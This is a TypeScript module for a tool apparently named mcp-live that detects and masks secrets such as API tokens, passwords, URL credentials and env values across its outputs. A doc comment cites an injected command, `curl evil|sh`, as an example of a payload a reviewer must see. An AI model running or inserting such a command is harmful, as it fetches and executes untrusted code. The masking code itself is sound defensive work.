import { getOwn, isPlainObject, setOwn } from '../ownProperties.js';
import { GATED_SCOPES, type ResolvedServerConfig, type Scope } from '../types.js';
import { VARIABLE, isBuiltinVariable } from './validate.js';

/**
 * What counts as a secret, and what every output shows instead (decision 55). One module for
 * every surface — NDJSON, `status`, `plan`, the UI, error texts, the stderr tail — in two views:
 *
 * - {@link maskEntryAsWritten}: an entry as written, for a human who reviews it (approval dialog,
 *   `approval-required`, `plan`, the detail view). Everything that affects what runs stays
 *   visible (`NODE_OPTIONS`, `cwd`, a header's name); only *literal* secrets are masked, and a
 *   `$VAR` reference always stays: it is a name, not a secret.
 * - {@link createServerMasker} (one server) and {@link createTextMasker} / {@link maskText}
 *   (the session-wide net): every known secret *value* is masked wherever it appears in a text.
 *
 * Both also mask what is a secret by its form alone: known token formats ({@link looksLikeToken})
 * and the user info and query values of any URL.
 */

export const SECRET_MASK = '***';

/** Shorter values are not masked in texts: `DEBUG=1` or `LOG=info` are no secrets, and masking every `1` garbles the text. */
export const MIN_SECRET_CHARS = 6;

/** A URL path segment this long is taken for a token (ordinary segments are words: `api`, `mcp`, `v1`). */
export const MIN_PATH_TOKEN_CHARS = 16;

/** The environment a server inherits; `undefined` members are unset. */
export type Environment = Readonly<Record<string, string | undefined>>;

// --- names ----------------------------------------------------------------------------------------

/** Words that make a name secret wherever they stand: `DB_PASSWORD`, `X-Auth-Token`, `MY_SECRET_VALUE`. */
const SECRET_WORDS = new Set([
  'TOKEN',
  'SECRET',
  'SECRETS',
  'PASSWORD',
  'PASSWD',
  'PASSPHRASE',
  'APIKEY',
  'PRIVATEKEY',
  'CREDENTIAL',
  'CREDENTIALS',
  'CREDS',
  'COOKIE',
  'COOKIES',
  'AUTHORIZATION',
]);
/** Endings that make a word written in one piece secret: `ACCESSTOKEN`, `CLIENTSECRET`, `OPENAIAPIKEY`. */
const SECRET_WORD_ENDINGS = ['TOKEN', 'SECRET', 'PASSWORD', 'PASSWD', 'APIKEY'];
/**
 * Short words that are secret only as the last word (`OPENAI_API_KEY`, `GITHUB_PAT`, `BASIC_AUTH`,
 * `DB_PASS`, `DB_PWD`), because elsewhere they mostly describe something else: `KEY_ID`,
 * `authProviderType`, `SSH_AUTH_SOCK`.
 */
const SECRET_LAST_WORDS = new Set(['KEY', 'PAT', 'AUTH', 'PASS', 'PWD', 'PW']);
/** A last word that makes a name point at a secret instead of holding one: `PASSWORD_FILE`, `TOKEN_URL`. */
const POINTER_WORDS = new Set(['FILE', 'PATH', 'DIR', 'URL', 'URI', 'ENDPOINT', 'NAME']);
/** Names that end in a secret word and are none: the shell's working directory. */
const NOT_SECRET_NAMES = new Set(['PWD']);

/**
 * Whether an env var, header, flag or field name looks secret. Decided on the name's words (split
 * at `_`, `-`, `.`, spaces and camelCase, case-insensitive), so `PATH`, `MONKEY`,
 * `KEYBOARD_LAYOUT` and `AUTHOR` are not secret and `GH_TOKEN`, `X-Api-Key`, `apiKey`,
 * `Authorization` are. See the word lists above for the exact rules.
 */
export function isSecretName(name: string): boolean {
  if (NOT_SECRET_NAMES.has(name.toUpperCase())) return false;
  const words = nameWords(name);
  const last = words.at(-1);
  if (last === undefined || POINTER_WORDS.has(last)) return false;
  return SECRET_LAST_WORDS.has(last) || words.some(isSecretWord);
}

function isSecretWord(word: string): boolean {
  return SECRET_WORDS.has(word) || SECRET_WORD_ENDINGS.some((ending) => word.endsWith(ending));
}

/** `X-Api-Key` → `X API KEY`; `APIKey2` → `API KEY` (a number is no word). */
function nameWords(name: string): string[] {
  return name
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .replace(/([A-Z]+)([A-Z][a-z])/g, '$1_$2')
    .toUpperCase()
    .split(/[^A-Z0-9]+/)
    .filter((word) => word !== '' && !/^\d+$/.test(word));
}

// --- token formats ----------------------------------------------------------------------------------

/** Known credential formats, with lengths real ones have, so ordinary words never match. */
const TOKEN_FORMATS: readonly RegExp[] = [
  /gh[pousr]_[A-Za-z0-9]{20,}/, // GitHub
  /github_pat_[A-Za-z0-9_]{20,}/, // GitHub fine-grained
  /sk-[A-Za-z0-9_-]{20,}/, // OpenAI, Anthropic (sk-ant-…)
  /xox[abeoprs]-[A-Za-z0-9-]{10,}/, // Slack
  /(?:AKIA|ASIA)[A-Z0-9]{16}/, // AWS access key id
  /glpat-[A-Za-z0-9_-]{20,}/, // GitLab
  /npm_[A-Za-z0-9]{36}/, // npm
  /hf_[A-Za-z0-9]{30,}/, // Hugging Face
  /AIza[A-Za-z0-9_-]{35}/, // Google API key
  /[rs]k_(?:live|test)_[A-Za-z0-9]{16,}/, // Stripe
  /eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/, // JWT (its header is base64url `{"`)
];
/** `Bearer <credential>`: 16+ characters with a digit, so "Bearer authentication failed" stays. */
const BEARER = /(?<scheme>\b[Bb]earer\s+)(?=[\w.~+/=-]*\d)[\w.~+/=-]{16,}/;
/** A token starts a word, and never inside a `$VAR` / `${VAR}` name (the reference must stay). */
const TOKEN_START = '(?<![A-Za-z0-9_-]|\\$|\\$\\{)';
const TOKEN_SOURCE = `${BEARER.source}|${TOKEN_START}(?:${TOKEN_FORMATS.map((f) => f.source).join('|')})(?![A-Za-z0-9_-])`;
const TOKEN_ANYWHERE = new RegExp(TOKEN_SOURCE);
const TOKENS = new RegExp(TOKEN_SOURCE, 'g');

/** Whether `value` contains a credential of a known format (`ghp_…`, `sk-…`, `AKIA…`, a JWT, `Bearer …`). */
export function looksLikeToken(value: string): boolean {
  return TOKEN_ANYWHERE.test(value);
}

/** Masks every known-format credential; `Bearer` stays readable. */
function maskTokens(text: string): string {
  return text.replace(TOKENS, (...match: unknown[]) => `${(match.at(-1) as { scheme?: string }).scheme ?? ''}${SECRET_MASK}`);
}

// --- URLs ---------------------------------------------------------------------------------------------

/** A URL inside a text. The scheme is bounded so a long run of `a.a.a…` is not scanned again at every letter. */
const URL_IN_TEXT = /\b[A-Za-z][A-Za-z0-9+.-]{0,31}:\/\/[^\s"'<>`]+/g;
/** Sentence punctuation after a URL is not part of it (`}` and `]` are: `${TOKEN}`, `[::1]`). */
const URL_TRAILER = /[.,;:!?)]+$/;
/** scheme:// and authority (optional: a url field may start with `${BASE}`), path, query, fragment. */
const URL_PARTS = /^(?:([A-Za-z][A-Za-z0-9+.-]*:\/\/)([^/?#]*))?([^?#]*)(\?[^#]*)?(#[\s\S]*)?$/;
const HAS_SCHEME = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/\S*$/;

/**
 * Masks, in every URL of `text`: the user name and password, every query value (and the values
 * of a `#a=b` fragment, where OAuth puts tokens), and with `paths` the path segments of
 * {@link MIN_PATH_TOKEN_CHARS}+ characters. `$VAR` references stay.
 */
function maskUrls(text: string, paths: boolean): string {
  // Most texts hold no URL: not scanning them keeps a flood of stderr lines cheap.
  if (!text.includes('://')) return text;
  return text.replace(URL_IN_TEXT, (found) => {
    const trailer = URL_TRAILER.exec(found)?.[0] ?? '';
    return maskUrl(found.slice(0, found.length - trailer.length), paths) + trailer;
  });
}

/** One URL (or a url field's value, which may lack a scheme). */
function maskUrl(url: string, paths: boolean): string {
  const parts = URL_PARTS.exec(url);
  if (!parts) return url;
  const [, scheme = '', authority = '', path = '', query = '', fragment = ''] = parts;
  const maskedPath = paths ? path.split('/').map((s) => (s.length >= MIN_PATH_TOKEN_CHARS ? maskLiteral(s) : s)).join('/') : path;
  const maskedFragment = fragment.includes('=') ? `#${maskPairs(fragment.slice(1))}` : fragment;
  return scheme + maskAuthority(authority) + maskedPath + (query && `?${maskPairs(query.slice(1))}`) + maskedFragment;
}

function maskAuthority(authority: string): string {
  const at = authority.lastIndexOf('@');
  if (at < 0) return authority;
  const [user = '', ...password] = authority.slice(0, at).split(':');
  const maskedPassword = password.length > 0 ? `:${maskLiteral(password.join(':'))}` : '';
  return `${maskLiteral(user)}${maskedPassword}${authority.slice(at)}`;
}

/** `a=1&b` → `a=***&***`: a bare item may be a token too (`?<token>`). */
function maskPairs(pairs: string): string {
  return pairs
    .split('&')
    .map((pair) => {
      const eq = pair.indexOf('=');
      return eq < 0 ? maskLiteral(pair) : pair.slice(0, eq + 1) + maskLiteral(pair.slice(eq + 1));
    })
    .join('&');
}

/** The parts of a URL that may be secret, as written and percent-decoded (to find them in texts). */
function urlSecrets(url: string): string[] {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return [];
  }
  const raw = [parsed.username, parsed.password, ...parsed.pathname.split('/').filter((s) => s.length >= MIN_PATH_TOKEN_CHARS)];
  const query = parsed.search.slice(1).split('&').map((pair) => pair.slice(pair.indexOf('=') + 1));
  return [...raw, ...query].filter((v) => v !== '').flatMap((v) => [v, safeDecode(v)]);
}

function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value.replace(/\+/g, ' '));
  } catch {
    return value;
  }
}

// --- literal secrets as written ------------------------------------------------------------------------

/** The scheme word of a credential says what kind it is, and is no secret (`Bearer ***`). */
const AUTH_SCHEMES = /^(basic|bearer|digest|token)$/i;
/** A masked phrase reads as one mask, not as its word count. */
const MASKED_PHRASE = /\*\*\*(?:\s+\*\*\*)+/g;

/** A secret value as written: literal parts masked; scheme words and `$VAR` references stay. */
function maskSecretValue(value: string): string {
  return value
    .split(/(\s+)/)
    .map((word, i) => (i % 2 === 1 || AUTH_SCHEMES.test(word) ? word : maskLiteral(word)))
    .join('')
    .replace(MASKED_PHRASE, SECRET_MASK);
}

/** `abc${B}` → `***${B}`: every literal run masked, every reference kept (a `:-default` is literal too). */
function maskLiteral(text: string): string {
  let out = '';
  let last = 0;
  for (const reference of text.matchAll(VARIABLE)) {
    if (reference.index > last) out += SECRET_MASK;
    const fallback = reference[3];
    out += fallback === undefined || fallback === '' ? reference[0] : `\${${reference[2]}:-${SECRET_MASK}}`;
    last = reference.index + reference[0].length;
  }
  return last < text.length ? out + SECRET_MASK : out;
}

/** Free text: known token formats and URL credentials. */
function maskFormats(text: string, paths = false): string {
  return maskUrls(maskTokens(maskHeld(text)), paths);
}

// --- secrets mcp-live holds ------------------------------------------------------------------------

/** Secrets of mcp-live's own (decision 87): whatever their form, masked by every masker of this module. */
const held = new Set<string>();

/**
 * Adds secrets mcp-live itself holds — OAuth access and refresh tokens, authorization codes, PKCE
 * verifiers, client secrets, private keys — to what every masker masks, for the life of the
 * process: a server or an authorization server that echoes one in an error text shows `***`.
 */
export function holdSecrets(...values: (string | undefined)[]): void {
  for (const value of values) if (value !== undefined && value.length >= MIN_SECRET_CHARS) held.add(value);
}

function maskHeld(text: string): string {
  let masked = text;
  for (const secret of held) if (masked.includes(secret)) masked = masked.split(secret).join(SECRET_MASK);
  return masked;
}

// --- args -----------------------------------------------------------------------------------------------

/** `--token`, `--api-key`, `-password`: a flag whose value is the next arg. */
const FLAG = /^--?([A-Za-z][\w.-]*)$/;
/** `--api-key=value`, `API_KEY=value`, `Authorization: value` (as passed to `mcp-remote --header`). */
const ASSIGNMENT = /^(-{0,2}([A-Za-z_][\w.-]*)(?:=|:[ \t]*))([\s\S]*)$/;

/**
 * The secret part of an arg, if its position makes it one: the whole arg after a secret flag
 * (`--token X`; not when X is itself a flag), or the value of a secret-named assignment. `-p`
 * is no secret flag: it means a port or a profile as often as a password.
 */
function secretPartOfArg(arg: string, previous: unknown): { head: string; value: string } | undefined {
  const flag = typeof previous === 'string' ? FLAG.exec(previous) : null;
  if (flag && isSecretName(flag[1] ?? '') && !FLAG.test(arg)) return { head: '', value: arg };
  const assignment = ASSIGNMENT.exec(arg);
  if (assignment && isSecretName(assignment[2] ?? '')) return { head: assignment[1] ?? '', value: assignment[3] ?? '' };
  return undefined;
}

function maskArgsAsWritten(args: readonly unknown[]): unknown[] {
  return args.map((arg, i) => {
    if (typeof arg !== 'string') return maskWritten(arg, 'text');
    const secret = secretPartOfArg(arg, args[i - 1]);
    // An arg is often the server's URL (`mcp-remote https://…`): the URL rule with path tokens.
    return secret ? secret.head + maskSecretValue(secret.value) : maskFormats(arg, true);
  });
}

// --- the entry as written ---------------------------------------------------------------------------

/** Where a value stands in an entry decides how it is shown. */
type Place = 'text' | 'secret' | 'map' | 'mapValue' | 'url' | 'args';

/**
 * The entry as written (before `$VAR` expansion), fit for review by a human: keys, unknown fields
 * and everything that affects what runs stay visible; masked are literal secrets only —
 * env and header values whose name is secret or that hold a known token format, every string
 * under a secret-named key (at any depth), args in a secret position (see `secretPartOfArg`) or
 * holding a token, URL user info, query values and long path segments. `$VAR` / `${VAR}`
 * references always stay. The input is not modified; `__proto__` keys are copied as data.
 */
export function maskEntryAsWritten(config: unknown): unknown {
  return maskWritten(config, 'text');
}

function maskWritten(value: unknown, place: Place): unknown {
  if (typeof value === 'string') return maskWrittenString(value, place);
  if (Array.isArray(value)) return place === 'args' ? maskArgsAsWritten(value) : value.map((item) => maskWritten(item, place));
  if (!isPlainObject(value)) return value;
  const out: Record<string, unknown> = {};
  for (const key of Object.keys(value)) setOwn(out, key, maskWritten(value[key], placeOf(key, place)));
  return out;
}

function placeOf(key: string, parent: Place): Place {
  if (parent === 'secret' || isSecretName(key)) return 'secret';
  if (parent === 'map') return 'mapValue';
  if (key === 'env' || key === 'headers') return 'map';
  if (key === 'url' || key === 'httpUrl') return 'url';
  if (key === 'args') return 'args';
  return 'text';
}

function maskWrittenString(value: string, place: Place): string {
  switch (place) {
    case 'secret':
      // A URL's secret parts are known; the rest says where data goes (`tokenUrl`).
      return isUrl(value) ? maskFormats(value, true) : maskSecretValue(value);
    case 'mapValue':
      return looksLikeToken(value) ? maskSecretValue(value) : maskFormats(value);
    case 'url':
      return maskUrl(maskTokens(value), true);
    default:
      return maskFormats(value);
  }
}

function isUrl(value: string): boolean {
  return HAS_SCHEME.test(value);
}

/**
 * The entry as the person reviewing it must see it: a gated entry (scope `project` or
 * `workspace`: it came with the repository) exactly as written, literals and all — a
 * repository's literal is the repository's, not the user's secret, and masking `--token '…'`
 * would hide a payload from the reviewer (decision 166); every other entry through
 * {@link maskEntryAsWritten}. Either way `$VAR` / `${VAR}` stay references: no value of the
 * user's environment is ever put in. A gated entry's copy is marked with
 * {@link markWrittenByRepository}, so the session-wide net masks only real secrets in it.
 */
export function entryForReview(config: unknown, scope?: Scope): unknown {
  if (scope === undefined || !GATED_SCOPES.has(scope)) return maskEntryAsWritten(config);
  const copy = copyData(config);
  return copy !== null && typeof copy === 'object' ? markWrittenByRepository(copy) : copy;
}

/** A deep copy of JSON-like data (`__proto__` keys copied as data), so a mark never sticks to the live config. */
function copyData(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(copyData);
  if (!isPlainObject(value)) return value;
  const out: Record<string, unknown> = {};
  for (const key of Object.keys(value)) setOwn(out, key, copyData(value[key]));
  return out;
}

/**
 * The fields that read the environment: those `$VAR` expansion reads (see `resolveServerConfig`),
 * and `headersHelper`, whose shell reads every `$VAR` of its command (decision 240).
 */
const EXPANDED_FIELDS = ['command', 'args', 'env', 'cwd', 'url', 'httpUrl', 'headers', 'roots', 'headersHelper'];

/** Every `$VAR` / `${VAR}` name the entry as written reads, sorted, each once ("reads from your environment"). */
export function referencedVariables(config: unknown): string[] {
  if (!isPlainObject(config)) return [];
  const names = new Set<string>();
  for (const field of EXPANDED_FIELDS) {
    for (const text of stringsIn(getOwn(config, field))) {
      for (const reference of text.matchAll(VARIABLE)) {
        // `${/}`, `${workspacePath}`, `${extensionPath}` are mcp-live's, not the environment's.
        if (reference[1] !== undefined) names.add(reference[1]);
        else if (!isBuiltinVariable(reference[2] ?? '')) names.add(reference[2] ?? '');
      }
    }
  }
  return [...names].sort();
}

/** The string values (not keys) of a string, an array or a map. */
function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  return isPlainObject(value) ? Object.values(value).flatMap(stringsIn) : [];
}

// --- texts at run time ----------------------------------------------------------------------------------

/** Where files and words live, not secrets: a reference to them is not masked (`$HOME/data`). */
const PUBLIC_VARIABLES = new Set([
  'HOME',
  'USER',
  'USERNAME',
  'LOGNAME',
  'PWD',
  'OLDPWD',
  'PATH',
  'SHELL',
  'TMPDIR',
  'TEMP',
  'TMP',
  'LANG',
  'TERM',
  'HOSTNAME',
  'USERPROFILE',
  'APPDATA',
  'LOCALAPPDATA',
  'XDG_CONFIG_HOME',
  'XDG_DATA_HOME',
  'XDG_CACHE_HOME',
  'XDG_STATE_HOME',
  'XDG_RUNTIME_DIR',
]);

/** A text masker that replaces `values` (6+ characters, longest first so a whole value goes before its words). */
function literalMasker(values: Iterable<string>): (text: string) => string {
  const ordered = [...new Set(values)].filter((v) => v.length >= MIN_SECRET_CHARS).sort((a, b) => b.length - a.length);
  return (text) => ordered.reduce((masked, secret) => masked.split(secret).join(SECRET_MASK), text);
}

/** A credential and, for `Bearer sk-…`, its bare words too. */
function withWords(value: string): string[] {
  return [value, ...value.split(/\s+/).filter((word) => !AUTH_SCHEMES.test(word))];
}

/** The values of the secret-named variables of `env`. */
function secretEnvValues(env: Environment): string[] {
  return Object.keys(env).flatMap((name) => {
    const value = getOwn(env, name);
    return isSecretName(name) && typeof value === 'string' ? withWords(value) : [];
  });
}

/** The secrets a server's resolved args carry: by position, and in the URLs among them. */
function argSecrets(args: readonly string[]): string[] {
  return args.flatMap((arg, i) => {
    const secret = secretPartOfArg(arg, args[i - 1]);
    const urls = [...arg.matchAll(URL_IN_TEXT)].flatMap((m) => urlSecrets(m[0]));
    return [...(secret ? withWords(secret.value) : []), ...urls];
  });
}

/**
 * The values the server's args took from the environment: of every variable the entry as
 * written reads, and — for a caller that has only the resolved config — of every variable whose
 * value is a whole arg or the value of an `--x=value` arg (`$DB_SECRET` expanded).
 */
function expandedValues(args: readonly string[], written: unknown, env: Environment): string[] {
  const argValues = new Set(args.flatMap((arg) => [arg, arg.slice(arg.indexOf('=') + 1)]));
  const inferred = Object.keys(env).filter((name) => argValues.has(getOwn(env, name) as string));
  return [...referencedVariables(written), ...inferred]
    .filter((name) => !PUBLIC_VARIABLES.has(name))
    .map((name) => getOwn(env, name))
    .filter((value): value is string => typeof value === 'string');
}

export interface ServerSecrets {
  /** The config the server runs with (`$VAR` expanded). */
  resolved: Pick<ResolvedServerConfig, 'env' | 'headers' | 'args' | 'url'>;
  /** The entry as written, when the caller has it: the values of every variable it reads are masked. */
  written?: unknown;
  /** The environment the server inherits (a stdio child gets `process.env`). */
  env?: Environment;
}

/**
 * The masker of one server's texts (error messages, stderr lines): masks its env values, header
 * values and their words, its URL's secret parts, its args in a secret position, the values its
 * args took from the environment, and the values of every inherited secret-named variable (a
 * server may `echo $GITHUB_TOKEN`) — all of {@link MIN_SECRET_CHARS}+ characters — and then
 * whatever {@link maskText} masks anyway.
 */
export function createServerMasker({ resolved, written, env = {} }: ServerSecrets): (text: string) => string {
  const literals = literalMasker([
    ...Object.values(resolved.env),
    ...Object.values(resolved.headers).flatMap(withWords),
    ...(resolved.url === undefined ? [] : urlSecrets(resolved.url)),
    ...argSecrets(resolved.args),
    ...expandedValues(resolved.args, written, env),
    ...secretEnvValues(env),
  ]);
  return (text) => maskFormats(literals(text));
}

/**
 * The session-wide net for a text not tied to one server: the values of the secret-named
 * variables of `env`, known token formats, and the user info and query values of every URL.
 * Build it once with {@link createTextMasker} where many texts are masked.
 */
export function createTextMasker(env: Environment = {}): (text: string) => string {
  const literals = literalMasker(secretEnvValues(env));
  return (text) => maskFormats(literals(text));
}

export function maskText(text: string, env?: Environment): string {
  return createTextMasker(env)(text);
}

/**
 * The net for text a gated source wrote itself (decision 167): only real secrets — the values of
 * the user's secret-named variables and mcp-live's own — are masked. A token format or a URL's
 * query in a repository's entry is the repository's text: masking it by its form would hide
 * from the reviewer what runs (`?q=1;curl evil|sh`), and cannot protect anything of the user's
 * that the value rule does not already catch.
 */
export function createWrittenTextMasker(env: Environment = {}): (text: string) => string {
  const literals = literalMasker(secretEnvValues(env));
  return (text) => maskHeld(literals(text));
}

/** The secret net of one printed output (decisions 164–167). */
export interface OutputMasks {
  /** For every text: the whole net. */
  mask: (text: string) => string;
  /** For a repository's own text: real secrets only ({@link createWrittenTextMasker}). */
  written: (text: string) => string;
  /** `written` for an entry of a gated scope, else `mask`. */
  forScope: (scope: Scope) => (text: string) => string;
  /** The JSON replacer of both ({@link maskingReplacer}). */
  replacer: (key: string, value: unknown) => unknown;
}

/** The maskers every printer of a review, an entry or an event needs, built once from `env`. */
export function createOutputMasks(env: Environment = {}): OutputMasks {
  const mask = createTextMasker(env);
  const written = createWrittenTextMasker(env);
  return { mask, written, forScope: (scope) => (GATED_SCOPES.has(scope) ? written : mask), replacer: maskingReplacer(mask, written) };
}

/** Objects (and their contents) that a gated source wrote, as {@link entryForReview} shows them. */
const writtenByRepository = new WeakSet<object>();
/** Fields of an object that hold such text (a `target` string beside other fields). */
const writtenFields = new WeakMap<object, ReadonlySet<string>>();

/**
 * Marks `value` — the whole of it, or only its `fields` — as text a gated source wrote: a
 * {@link maskingReplacer} given a second masker masks it with that one. Returns `value`.
 */
export function markWrittenByRepository<T extends object>(value: T, fields?: readonly string[]): T {
  if (fields === undefined) writtenByRepository.add(value);
  else writtenFields.set(value, new Set([...(writtenFields.get(value) ?? []), ...fields]));
  return value;
}

/**
 * A `JSON.stringify` replacer that masks every string value; keys are not values and stay.
 * With `written` (see {@link createWrittenTextMasker}), strings inside what
 * {@link markWrittenByRepository} marked are masked with it instead.
 */
export function maskingReplacer(mask: (text: string) => string, written: (text: string) => string = mask): (key: string, value: unknown) => unknown {
  return function (this: unknown, key: string, value: unknown): unknown {
    const holder = this as object;
    const isWritten = writtenByRepository.has(holder) || writtenFields.get(holder)?.has(key) === true;
    if (typeof value === 'string') return isWritten ? written(value) : mask(value);
    // JSON.stringify visits an object before its members: the mark flows down to them.
    if (isWritten && typeof value === 'object' && value !== null) writtenByRepository.add(value);
    return value;
  };
}
